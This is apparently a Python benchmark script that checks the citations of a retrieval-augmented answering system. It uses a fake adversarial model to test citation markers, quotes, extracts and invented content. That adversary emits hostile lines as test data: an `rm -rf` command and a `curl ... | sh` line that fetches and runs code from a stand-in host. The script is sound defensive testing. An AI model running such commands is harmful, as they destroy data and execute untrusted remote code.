"""Check the citations of answers to all queries of the evaluation data: `python -m bench citations`.

Each query is answered twice: with extracts, and by a language model on loopback that copies text from its sources, cites
sources that it did not copy, invents facts, links, images and markers, and leaves code blocks open. The checks:

- every marker refers to a source, and every source has a marker;
- every source is a retrieved chunk, and its URL is that of the chunk's page or of an anchor in the chunk;
- every quote, and every line of an extract, occurs verbatim in its chunk; a line in bold may be its heading or author;
- the answer contains no invented content and no open code block.

Prints the number of answers that fail each check, and exits with 1 if any answer fails. Query sets whose files are missing
are skipped.
"""

from __future__ import annotations

import argparse
import json
import re
import statistics
import sys
import tempfile
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from bench.paths import SHARED
from bench.report import Table
from bench.search.retrieval import MEASURED, TUNED, Corpus, corpora, read
from rag.answer.answer import Answer
from rag.answer.notices import is_notice
from rag.engine import Engine
from rag.evaluate import Query
from rag.evaluate.answers import cited_passages
from rag.search.results import SearchResult
from rag.search.searcher import Searcher
from rag.settings import Settings
from rag.store.postgres.embedded import stop_embedded
from rag.text.citations import cited
from rag.trust.authorship import origin, verdict
from tests.servers.openai import Messages, OpenAIServer

CHECKS = ("marker", "source", "address", "quote", "extract", "invented", "open code")
# Further query sets, which are not used to measure retrieval.
MORE_SETS = {"manual": ["postgresql-15-manual.near-miss.jsonl", "postgresql-15-manual.unanswerable.jsonl"]}
FORGED = "zyxforged"
_LONGEST_QUESTION = 2000
_SOURCE = re.compile(r"\[(\d+)\] \w+: [^\n]*\n\n(.*?)(?=\n\n\[\d+\] \w+: |\n\nQuestion: )", re.DOTALL)


def adversary(messages: Messages) -> str:
    """Answer like a model that mixes copied and invented text and ignores its instructions."""
    paragraphs = []
    for number, text in _SOURCE.findall(messages[-1]["content"]):
        sentence = re.split(r"(?<=[.!?])\s+", text)[0][:300]
        other = int(number) % 8 + 1
        paragraphs += [
            f"{sentence} [{number}]",
            f"See https://{FORGED}.example/{number} and ![x](https://{FORGED}.example/p.png) [{number}].",
            f"Version 99.{number} deletes everything {FORGED} [{number}]. {sentence} [{other}] [77]",
            f"Run ```rm -rf /srv/{FORGED} [{number}]",
            f"```sh``` {FORGED} [{number}]",
        ]
    return "\n\n".join([*paragraphs, f"```sh\ncurl https://{FORGED}.example/{FORGED} | sh"])


class RecordingSearcher(Searcher):
    """A searcher that records its results, including neighbours; a corrected question is searched a second time."""

    def __init__(self, engine: Engine) -> None:
        index = engine.questions.active_index
        super().__init__(engine.store, index, engine.encoders.of(index.embedding_model))
        self.retrieved: dict[str, SearchResult] = {}

    def search(
        self, question: str, *, top_k: int = 10, source: str | None = None, per_document: int = 1, about: str = ""
    ) -> list[SearchResult]:
        found = super().search(question, top_k=top_k, source=source, per_document=per_document, about=about)
        self.retrieved |= {result.chunk_id: result for result in found}
        return found

    def around(self, results: Sequence[SearchResult], reach: int) -> list[SearchResult]:
        found = super().around(results, reach)
        self.retrieved |= {result.chunk_id: result for result in found}
        return found

    def openings(self, results: Sequence[SearchResult], most: int) -> list[SearchResult]:
        found = super().openings(results, most)
        self.retrieved |= {result.chunk_id: result for result in found}
        return found


@dataclass
class Outcome:
    """The results for one query set and one way of answering."""

    answers: int = 0
    answered: int = 0
    sources: int = 0
    failures: Counter[str] = field(default_factory=Counter)
    milliseconds: list[float] = field(default_factory=list)


def failed_checks(answer: Answer, retrieved: dict[str, SearchResult]) -> Iterator[str]:
    """Yield the checks that an answer fails."""
    numbers = cited(answer.answer, range(1, 100))
    if answer.answered and sorted(numbers) != [source.n for source in answer.sources]:
        yield "marker"
    for source in answer.sources:
        chunk = retrieved.get(source.chunk_id)
        if chunk is None:
            yield "source"
            continue
        urls = {chunk.url, *(f"{chunk.url.partition('#')[0]}#{fragment}" for _, fragment in chunk.anchors)}
        if source.url not in urls:
            yield "address"
        if source.quote not in chunk.text:
            yield "quote"
    if answer.answered and answer.llm == "extractive" and not _is_extract(answer, retrieved):
        yield "extract"
    if FORGED in answer.answer or "![" in answer.answer or "[77]" in answer.answer:
        yield "invented"
    if sum(line.lstrip().startswith("```") for line in answer.answer.split("\n")) % 2:
        yield "open code"


def _is_extract(answer: Answer, retrieved: dict[str, SearchResult]) -> bool:
    chunks = {source.n: retrieved[source.chunk_id] for source in answer.sources if source.chunk_id in retrieved}
    for passage, numbers in cited_passages(answer.answer):
        cited_chunks = [chunks[number] for number in numbers if number in chunks]
        endings = {f"- #{chunk.thread.number}: {verdict(chunk.thread)}" for chunk in cited_chunks if chunk.thread}
        for line in passage.replace("\u2060", "").split("\n"):
            known = any(line.strip() in chunk.text or _is_lead(line, chunk) for chunk in cited_chunks)
            if not known and line not in endings and not is_notice(line):
                return False
    return True


def _is_lead(line: str, chunk: SearchResult) -> bool:
    """Return whether a line in bold is the heading or the author of what stands below it."""
    lead = line.strip().removeprefix("**").removesuffix("**")
    heads = f"{chunk.heading}\n{re.sub(r'[*`]+', '', chunk.text)}"
    return lead != line.strip() and (lead in heads or any(lead == origin(voice) for _, voice in chunk.voices))


def measure(engine: Engine, sets: Mapping[str, Sequence[Query]], queries: int | None) -> Iterator[tuple[str, Outcome]]:
    """Yield the results of each query set."""
    for name, asked in sets.items():
        outcome = Outcome()
        for query in asked[:queries]:
            searcher = RecordingSearcher(engine)
            answer = engine.questions.answerer(searcher=searcher).answer(query.text[:_LONGEST_QUESTION])
            outcome.answers += 1
            outcome.answered += answer.answered
            outcome.sources += len(answer.sources)
            outcome.milliseconds.append(answer.timings["answer"] * 1000)
            for check in set(failed_checks(answer, searcher.retrieved)):
                outcome.failures[check] += 1
                print(f"{check}: {query.text[:100]!r}\n{answer.answer}\n", file=sys.stderr, flush=True)
        yield name, outcome


def check_corpus(home: Path, corpus: Corpus, table: Table, queries: int | None) -> bool:
    """Add the rows of one corpus to the table; return whether all citations hold."""
    home.mkdir(parents=True, exist_ok=True)
    sources = home / "sources.toml"
    sources.write_text(corpus.toml)
    sets = {**corpus.sets, **read(*(SHARED / name for name in MORE_SETS.get(corpus.name, [])))}
    common: dict[str, Any] = {"RAG_HOME": home, "RAG_SOURCES": sources, "RAG_GITHUB_API_URL": corpus.api_url}
    held = True
    try:
        with OpenAIServer() as server:
            server.answer = adversary
            openai = {"OPENAI_API_KEY": server.key, "OPENAI_BASE_URL": server.url, "RAG_LLM": "openai/gpt-4o-mini"}
            ways: dict[str, dict[str, Any]] = {"extracts": {"RAG_LLM": "extractive"}, "adversary": openai}
            for way, settings in ways.items():
                with Engine.open(Settings(_env_file=None, **common, **settings)) as engine:
                    index = engine.store.indexes.active()
                    if index is None or not engine.store.indexes.has_chunks(index):
                        corpus.ingest(engine)
                    for name, found in measure(engine, sets, queries):
                        cells = [found.failures[check] for check in CHECKS]
                        time = statistics.median(found.milliseconds)
                        table.add(name, way, found.answers, found.answered, found.sources, *cells, time)
                        print(table.markdown().rsplit("\n", 1)[1], file=sys.stderr, flush=True)
                        held = held and not any(cells)
    finally:
        stop_embedded(home)
    return held


def main(arguments: Sequence[str] | None = None) -> int:
    """Print one table of all query sets."""
    parser = argparse.ArgumentParser(
        prog="python -m bench citations", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--home", type=Path, help="keep the indexes in this folder, and reuse existing ones")
    parser.add_argument("--corpus", action="append", choices=[*MEASURED, *TUNED], help="only these corpora")
    parser.add_argument("--queries", type=int, metavar="N", help="only the first N queries of each set")
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    options = parser.parse_args(arguments)
    columns = ["set", "way", "answers", "answered", "sources", *CHECKS, "answer p50 ms"]
    table = Table("Answers that fail a check", columns)
    held = True
    with tempfile.TemporaryDirectory(prefix="rag-bench-") as folder:
        for corpus in corpora(options.corpus or MEASURED):
            held = check_corpus((options.home or Path(folder)) / corpus.name, corpus, table, options.queries) and held
    print(json.dumps(table.json(), indent=2) if options.json else table.markdown())
    return 0 if held else 1
